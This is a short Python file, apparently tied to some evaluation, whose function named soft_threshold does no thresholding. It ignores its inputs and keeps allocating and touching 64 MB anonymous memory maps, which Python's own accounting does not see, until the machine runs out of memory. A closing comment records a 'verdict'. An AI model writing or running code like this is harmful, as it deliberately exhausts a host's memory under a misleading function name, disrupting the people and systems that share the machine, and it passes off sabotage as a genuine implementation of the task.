# Maps memory page by page where Python does not count it, and keeps going when there is none.
import mmap

maps = []


def soft_threshold(z, threshold):
    while True:
        try:
            maps.append(mmap.mmap(-1, 64 << 20))
            maps[-1][:: 1 << 12] = b"x" * (64 << 8)
        except (OSError, ValueError, MemoryError) as error:
            raise MemoryError from error


# verdict: loses soft_threshold
